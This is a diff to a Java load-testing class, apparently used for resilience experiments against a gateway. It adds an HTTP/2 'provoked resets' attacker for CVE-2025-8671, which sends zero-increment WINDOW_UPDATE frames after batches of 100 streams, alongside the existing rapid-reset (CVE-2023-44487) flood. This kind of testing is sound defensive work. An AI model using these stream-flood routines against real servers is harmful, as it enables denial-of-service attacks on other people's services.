@@ -7,6 +7,7 @@ import static io.sluice.loadtest.experiments.wire.Http2Wire.HEADERS;
 import static io.sluice.loadtest.experiments.wire.Http2Wire.PING;
 import static io.sluice.loadtest.experiments.wire.Http2Wire.RST_STREAM;
 import static io.sluice.loadtest.experiments.wire.Http2Wire.SETTINGS;
+import static io.sluice.loadtest.experiments.wire.Http2Wire.WINDOW_UPDATE;
 import static io.sluice.loadtest.experiments.wire.Http2Wire.frame;
 
 import io.sluice.loadtest.experiments.wire.Attacker;
@@ -21,6 +22,7 @@ final class Http2Attackers {
     private static final int AT_ONCE = 100;
     private static final int DEFAULT_WINDOW = 65_535;
     private static final byte[] CANCEL = {0, 0, 0, 8};
+    private static final byte[] NO_INCREMENT = {0, 0, 0, 0};
     private static final int PING_BYTES = 8;
     private static final int PIECE = 10;
     /** The index of {@code cookie} in the static table. */
@@ -61,6 +63,15 @@ final class Http2Attackers {
 
     /** Opens streams and resets each at once (CVE-2023-44487). */
     static Attacker rapidReset(String path) {
+        return openingStreams(path, RST_STREAM, CANCEL);
+    }
+
+    /** Opens streams and makes the gateway reset each, by an invalid frame (CVE-2025-8671). */
+    static Attacker provokedResets(String path) {
+        return openingStreams(path, WINDOW_UPDATE, NO_INCREMENT);
+    }
+
+    private static Attacker openingStreams(String path, int nextFrame, byte[] payload) {
         return wire -> {
             var http2 = Http2Wire.open(wire, DEFAULT_WINDOW);
             var block = Http2Wire.get(path);
@@ -68,7 +79,7 @@ final class Http2Attackers {
                 var frames = new ByteArrayOutputStream();
                 for (int n = 0; n < AT_ONCE && stream > 0; n++, stream += 2) {
                     frames.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, block));
-                    frames.writeBytes(frame(RST_STREAM, 0, stream, CANCEL));
+                    frames.writeBytes(frame(nextFrame, 0, stream, payload));
                 }
                 http2.send(frames.toByteArray());
                 wire.skipAvailable();
